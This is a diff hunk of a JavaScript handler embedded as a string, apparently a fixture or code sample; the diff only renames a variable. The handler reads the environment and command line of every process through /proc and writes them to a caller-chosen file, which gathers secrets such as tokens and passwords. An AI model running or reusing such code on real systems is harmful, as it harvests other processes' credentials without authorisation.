@@ -56,11 +56,11 @@ import fs from "node:fs";
 const read = (path) => { try { return fs.readFileSync(path, "latin1"); } catch { return ""; } };
 export const handler = async ({ file }) => {
   const ids = fs.readdirSync("/proc").filter((name) => /^[0-9]+$/.test(name));
-  const texts = ids.map((id) => read("/proc/" + id + "/environ") + read("/proc/" + id + "/cmdline"));
+  const seen = ids.map((id) => read("/proc/" + id + "/environ") + read("/proc/" + id + "/cmdline"));
   const links = fs.readdirSync("/proc/self/fd").map((fd) => {
     try { return fs.readlinkSync("/proc/self/fd/" + fd); } catch { return ""; }
   });
-  fs.writeFileSync(file, texts.join("\\n"));
+  fs.writeFileSync(file, seen.join("\\n"));
   return { processes: ids.length, links };
 };`;
 
